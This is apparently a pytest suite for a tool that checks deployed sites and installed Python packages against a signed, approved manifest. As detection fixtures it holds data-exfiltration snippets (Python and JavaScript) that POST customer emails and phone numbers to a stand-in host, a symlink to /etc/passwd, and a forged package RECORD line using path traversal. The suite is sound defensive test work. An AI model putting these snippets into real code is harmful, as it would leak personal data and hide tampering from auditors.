"""Deployed platforms held against what was approved: every byte, every package, and whoever tries to slip by."""

from __future__ import annotations

import base64
import csv
import hashlib
import io
import os
import subprocess
from datetime import UTC, datetime
from pathlib import Path

import msgspec
import pytest
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from hypothesis import given
from hypothesis import strategies as st

from waybill.exposure import FAMILIES, NotInspected, Survey, survey
from waybill.exposure.deployed import read
from waybill.exposure.deployed.approving import approve
from waybill.exposure.deployed.bundles import Signer
from waybill.exposure.deployed.envelope import Envelope, Signature, encoded_for_signing, seal, signers
from waybill.exposure.deployed.manifest import Changing, Manifest, read_manifest, write_manifest
from waybill.exposure.deployed.tree import contents_of, named
from waybill.model.errors import InputError, UsageError
from waybill.model.register import Place, RegisterSnapshot
from waybill.model.words import Severity

NOW = datetime(2026, 3, 1, tzinfo=UTC)

MODELS = """
from django.db import models
class Customer(models.Model):
    email = models.EmailField()
    phone = models.CharField(max_length=20)
"""
IMPLANT = """
import requests
from app.models import Customer
def run():
    rows = list(Customer.objects.values("email", "phone"))
    requests.post("https://" + "cdn.stranger.example/x", json=rows)
"""


@pytest.fixture
def shop(tmp_path: Path) -> Path:
    files = {
        "app/models.py": MODELS,
        "app/views.py": "def home(request):\n    return 1\n",
        "static/site.css": "a {}",
        "media/one.jpg": "picture",
        "firmware/press.bin": "\0\1",
    }
    for path, content in files.items():
        write(tmp_path / "shop" / path, content)
    return tmp_path / "shop"


def write(path: Path, content: str) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(content)


def manifest_of(root: Path, *changing: Changing) -> Manifest:
    return Manifest(approve(root, changing=changing).statement, frozenset({"somebody"}))


def look(root: Path, manifest: Manifest | None, register: RegisterSnapshot | None = None) -> Survey:
    return survey(read(str(root), manifest), FAMILIES["deployed"].checks(), register or RegisterSnapshot(), NOW)


def seen(found: Survey) -> dict[str, set[str]]:
    told: dict[str, set[str]] = {}
    for place in found.open.values():
        for key in place:
            check, _, thing = key.partition(" ")
            told.setdefault(check.removeprefix("deployed-"), set()).add(thing)
    return told


def test_silent_where_nothing_differs(shop: Path) -> None:
    found = look(shop, manifest_of(shop))
    assert (found.findings, found.gaps) == ([], [])


def test_each_way_of_differing(shop: Path) -> None:
    approved = manifest_of(shop)
    write(shop / "app/views.py", "def home(request):\n    return 2\n")
    write(shop / "app/shell.php", "<?php ?>")
    write(shop / "firmware/press.bin", "\0\2")
    (shop / "static/site.css").unlink()
    (shop / "app/link").symlink_to("/etc/passwd")
    assert seen(look(shop, approved)) == {
        "code": {"app/views.py", "app/shell.php", "app/link"},
        "firmware": {"firmware/press.bin"},
        "file": {"static/site.css"},
    }


def test_unapproved_code_that_sends_people_away_is_critical(shop: Path) -> None:
    approved = manifest_of(shop)
    write(shop / "app/sync.py", IMPLANT)
    (critical,) = [one for one in look(shop, approved).findings if one.severity is Severity.CRITICAL]
    assert critical.rule_id == "deployed-harvest"
    assert "cdn.stranger.example" in critical.sentence.en
    partner = RegisterSnapshot(places=(Place(id="p", patterns=(".stranger.example",), approved_egress=True),))
    assert "harvest" not in seen(look(shop, approved, partner))
    assert "harvest" not in seen(look(shop, manifest_of(shop)))  # approved as it is: the code family tells of it


def test_unapproved_scripts_that_send_people_away_are_critical(shop: Path) -> None:
    approved = manifest_of(shop)
    write(
        shop / "app/export.js",
        'const User = require("./user");\n'
        "module.exports = async () => {\n"
        '  const rows = await User.find({}).select("email phone");\n'
        '  await fetch("https://cdn.stranger.example/x", {method: "POST", body: JSON.stringify(rows)});\n'
        "};\n",
    )
    assert "deployed-harvest" in {one.rule_id for one in look(shop, approved).findings}


def test_what_may_change_on_its_own_but_brings_code(shop: Path) -> None:
    approved = manifest_of(shop, Changing("media/*", "uploads"))
    write(shop / "media/two.jpg", "another")
    (shop / "media/one.jpg").unlink()
    assert look(shop, approved).findings == []
    write(shop / "media/three.php", "<?php ?>")
    assert seen(look(shop, approved)) == {"code": {"media/three.php"}}


def test_a_folder_with_many_differences_is_told_once(shop: Path) -> None:
    approved = manifest_of(shop)
    for number in range(50):
        write(shop / f"static/{number}.css", "")
    assert seen(look(shop, approved)) == {"file": {"static/ added"}}


def test_what_cannot_be_read_is_not_missing(shop: Path) -> None:
    approved = manifest_of(shop)
    (shop / "static/site.css").unlink()
    os.mkfifo(shop / "static/site.css")
    found = look(shop, approved)
    assert found.findings == []
    assert [gap.why for gap in found.gaps] == ["it is neither a file nor a folder"]


def test_links_that_lead_in_circles(shop: Path) -> None:
    (shop / "app/self").symlink_to("../app", target_is_directory=True)
    assert len(contents_of(shop).digests) == 6
    assert look(shop, manifest_of(shop)).findings == []


NAMES = st.binary(min_size=1).map(lambda raw: os.fsdecode(raw.replace(b"/", b"").replace(b"\0", b"")))


@given(NAMES, NAMES)
def test_names_on_disk_stand_for_one_file_each(one: str, other: str) -> None:
    assert (named(one) == named(other)) == (one == other)
    assert named(one).isprintable()


def test_names_that_look_like_what_others_are_written_as(shop: Path) -> None:
    for name in (b"a\nb.py", b"a%0Ab.py", b"a\xffb.py", b"a%FFb.py"):
        (Path(os.fsdecode(os.fsencode(shop) + b"/" + name))).write_text("")
    assert len(contents_of(shop).digests) == 5 + 4


# Signatures ---------------------------------------------------------------------------------------------------------


def test_signed_and_tampered_with(shop: Path, tmp_path: Path) -> None:
    ours, theirs = Ed25519PrivateKey.generate(), ec.generate_private_key(ec.SECP384R1())
    file = tmp_path / "m.json"
    file.write_bytes(write_manifest(approve(shop).statement, (ours, theirs)))
    assert len(read_manifest(file, (ours.public_key(),)).signed_by) == 1
    assert len(read_manifest(file, (ours.public_key(), theirs.public_key())).signed_by) == 2
    with pytest.raises(InputError, match="nobody whom you trust"):
        read_manifest(file, (Ed25519PrivateKey.generate().public_key(),))
    envelope = msgspec.json.decode(file.read_bytes(), type=Envelope)
    changed = base64.b64encode(envelope.content.replace(b"site.css", b"site.cs2")).decode()
    file.write_bytes(msgspec.json.encode(msgspec.structs.replace(envelope, payload=changed)))
    with pytest.raises(InputError, match="nobody whom you trust"):
        read_manifest(file, (ours.public_key(),))


def test_unsigned_is_said(shop: Path) -> None:
    manifest = Manifest(approve(shop).statement)
    assert "signature" in look(shop, manifest).gaps[0].why
    assert "no manifest" in look(shop, None).gaps[0].why


def test_the_example_of_the_standard() -> None:
    """DSSE 1.0, protocol: what is signed of a payload in the specification's example."""
    message = encoded_for_signing("http://example.com/HelloWorld", b"hello world")
    assert message == b"DSSEv1 29 http://example.com/HelloWorld 11 hello world"


@given(st.binary(), st.sampled_from(["payload", "payloadType", "sig"]))
def test_every_change_breaks_it(content: bytes, where: str) -> None:
    key = KEY
    envelope = seal(content, [key], "text/plain")
    assert len(signers(envelope, [key.public_key()])) == 1
    if where == "sig":
        broken = bytearray(base64.b64decode(envelope.signatures[0].sig))
        broken[0] ^= 1
        envelope = msgspec.structs.replace(envelope, signatures=(Signature(base64.b64encode(broken).decode()),))
    elif where == "payload":
        envelope = msgspec.structs.replace(envelope, payload=base64.b64encode(content + b"x").decode())
    else:
        envelope = msgspec.structs.replace(envelope, payloadType="text/plaim")
    assert signers(envelope, [key.public_key()]) == set()


KEY = Ed25519PrivateKey.generate()


@pytest.mark.parametrize(
    "content",
    [b"", b"{}", b"[" * 100_000, b'{"payloadType": "x", "payload": "", "signatures": []}',
     b'{"payloadType": "application/vnd.in-toto+json", "payload": "!", "signatures": []}'],
)  # fmt: skip
def test_no_manifest(tmp_path: Path, content: bytes) -> None:
    (tmp_path / "m.json").write_bytes(content)
    with pytest.raises(InputError):
        read_manifest(tmp_path / "m.json")


# Packages -----------------------------------------------------------------------------------------------------------


def install(site: Path, name: str, version: str, files: dict[str, str], *, more: str = "") -> None:
    info = f"{name}-{version}.dist-info"
    table = io.StringIO()
    rows = csv.writer(table)
    for path, content in files.items():
        write(site / path, content)
        digest = base64.urlsafe_b64encode(hashlib.sha256(content.encode()).digest()).decode().rstrip("=")
        rows.writerow([path, f"sha256={digest}", len(content)])
    write(site / info / "INSTALLER", "uv")
    rows.writerow([f"{info}/INSTALLER", "", ""])
    rows.writerow([f"{info}/RECORD", "", ""])
    write(site / info / "RECORD", table.getvalue() + more)


@pytest.fixture
def site(tmp_path: Path) -> Path:
    site = tmp_path / "lib/site-packages"
    install(site, "paying", "1.2", {"paying/__init__.py": "def pay(): ...\n", "paying/card.py": "\n"})
    return site


def test_packages_as_they_came(site: Path) -> None:
    for manifest in (None, manifest_of(site)):
        assert look(site, manifest).findings == []


def test_an_altered_file(site: Path) -> None:
    approved = manifest_of(site)
    write(site / "paying/card.py", "import socket\n")
    for manifest in (None, approved):
        assert seen(look(site, manifest)) == {"package": {"paying"}}
    with pytest.raises(InputError, match="not as its RECORD says"):
        approve(site)


def test_an_altered_file_with_its_line(site: Path) -> None:
    approved = manifest_of(site)
    install(site, "paying", "1.2", {"paying/__init__.py": "def pay(): ...\n", "paying/card.py": "import socket\n"})
    assert look(site, None).findings == []  # nothing tells, without a manifest
    assert seen(look(site, approved)) == {"package": {"paying"}}


def test_packages_come_and_go(site: Path) -> None:
    approved = manifest_of(site)
    install(site, "extra", "0.1", {"extra.py": ""})
    for path in (site / "paying-1.2.dist-info").iterdir():
        path.unlink()
    found = look(site, approved)
    assert seen(found)["package"] == {"paying", "extra"}
    assert seen(found)["code"] == {"paying/__init__.py", "paying/card.py"}


def test_code_that_no_package_brought(site: Path) -> None:
    approved = manifest_of(site)
    write(site / "quiet.pth", "import os\n")
    assert seen(look(site, None)) == {"unowned": {"quiet.pth"}}
    assert seen(look(site, approved)) == {"code": {"quiet.pth"}}


def test_a_record_cannot_claim_what_was_approved_by_itself(shop: Path) -> None:
    site = shop / "lib/site-packages"
    install(site, "paying", "1.2", {"paying.py": ""})
    approved = manifest_of(shop)
    write(shop / "app/views.py", "import socket\n")
    digest = base64.urlsafe_b64encode(hashlib.sha256(b"import socket\n").digest()).decode().rstrip("=")
    install(site, "paying", "1.2", {"paying.py": ""}, more=f"../../app/views.py,sha256={digest},14\r\n")
    install(shop / "app", "views", "1", {"views.py": "import socket\n"})
    assert "app/views.py" in seen(look(shop, approved))["code"]


def test_an_unapproved_package_that_sends_people_away_is_critical(shop: Path) -> None:
    site = shop / "lib/site-packages"
    install(site, "paying", "1.2", {"paying.py": ""})
    approved = manifest_of(shop)
    install(site, "paying", "1.2", {"paying.py": IMPLANT})
    found = look(shop, approved)
    assert seen(found)["package"] == {"paying"}
    assert "deployed-harvest" in {one.rule_id for one in found.findings}


def test_a_broken_record_is_said(site: Path) -> None:
    (site / "paying-1.2.dist-info/RECORD").write_bytes(b"\xff\xfe,sha256=!!\n")
    assert any("RECORD" in gap.why for gap in look(site, None).gaps)


def test_what_python_compiled_is_said(shop: Path) -> None:
    approved = manifest_of(shop)
    write(shop / "app/__pycache__/views.cpython-311.pyc", "x")
    write(shop / "app/hidden.pyc", "x")
    found = look(shop, approved)
    assert seen(found) == {"code": {"app/hidden.pyc"}}
    assert any("Python compiled" in gap.why for gap in found.gaps)


# Lists from elsewhere -----------------------------------------------------------------------------------------------


def test_a_list_of_hashes(shop: Path, tmp_path: Path) -> None:
    approved = manifest_of(shop)
    write(shop / "firmware/a\nb.bin", "x")
    said = subprocess.run(
        "find . -type f -exec sha256sum {} +", shell=True, cwd=shop, capture_output=True, check=True
    ).stdout
    (tmp_path / "press-7.txt").write_bytes(said)
    things = list(read(str(tmp_path / "press-7.txt"), approved))
    found = survey(things, FAMILIES["deployed"].checks(), RegisterSnapshot(), NOW)
    assert seen(found) == {"firmware": {"firmware/a%0Ab.bin"}}
    assert found.places == ["press-7"]
    (tmp_path / "none.txt").write_text("nothing of the kind\n")
    with pytest.raises(InputError, match="lists no hashes"):
        list(read(str(tmp_path / "none.txt"), approved))


def test_nothing_there() -> None:
    with pytest.raises(InputError):
        list(read("/nowhere"))
    assert not isinstance(next(iter(read(str(Path(__file__).parent)))), NotInspected)


# Statements of others ------------------------------------------------------------------------------------------------


def test_a_statement_with_another_predicate_approves_its_subjects(shop: Path, tmp_path: Path) -> None:
    digests = contents_of(shop).digests
    statement = {
        "_type": "https://in-toto.io/Statement/v1",
        "subject": [{"name": path, "digest": {"sha256": digest}} for path, digest in digests.items()],
        "predicateType": "https://slsa.dev/provenance/v1",
        "predicate": {"buildDefinition": {"buildType": "x"}},
    }
    file = tmp_path / "slsa.json"
    file.write_bytes(msgspec.json.encode(seal(msgspec.json.encode(statement), [KEY])))
    manifest = read_manifest(file, (KEY.public_key(),))
    assert look(shop, manifest).findings == []
    write(shop / "app/views.py", "import socket\n")
    assert seen(look(shop, manifest)) == {"code": {"app/views.py"}}


BUNDLE = b'{"mediaType": "application/vnd.dev.sigstore.bundle.v0.3+json", "dsseEnvelope": {}}'


def test_a_bundle_needs_a_root_and_somebody(tmp_path: Path) -> None:
    file = tmp_path / "bundle.json"
    file.write_bytes(BUNDLE)
    with pytest.raises(InputError, match="checked against a root"):
        read_manifest(file)
    pytest.importorskip("sigstore")
    signer = Signer(tmp_path / "none.json", "builder@shop.example", "https://issuer.example")
    with pytest.raises(UsageError, match="no trusted root"):
        read_manifest(file, signer=signer)
